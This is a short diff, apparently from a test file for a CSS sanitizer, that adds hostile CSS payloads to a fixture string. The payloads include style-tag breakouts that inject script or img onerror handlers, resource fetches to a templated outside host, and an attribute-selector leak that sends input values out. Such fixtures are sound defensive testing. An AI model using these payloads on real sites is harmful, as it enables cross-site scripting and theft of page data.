@@ -13,6 +13,10 @@ p {{ -moz-binding: url(http://{at}/xbl); width: expression(pwn('expression')); }
 [data-victor] {{ display: none !important; background: url(http://{at}/mark.png) !important; }}
 input[value^=s] {{ background: url(http://{at}/leak?s); }}
 h1::after {{ content: "</style><script>pwn('css string')</script>"; }}
+h2::after {{ content: "\\3c/style><script>pwn('css escape')</script>"; --x: <!-- </STYLE ><!-- ]]>; }}
+@media (width<9999px) {{ [a="</style/><img src=x onerror=pwn(1)>"] {{ --y: a\\</style>; }} }}
+p {{ background: cross-fade("//{at}/fade.png", red); filter: progid:X.Y(src="//{at}/progid"); }}
+p {{ background: -webkit-cross-fade(src("//{at}/src"), red, 1%); --p: fixed; position: var(--p); }}
 @keyframes a {{ from {{ background: url(http://{at}/frames.png); }} }}
 """
 
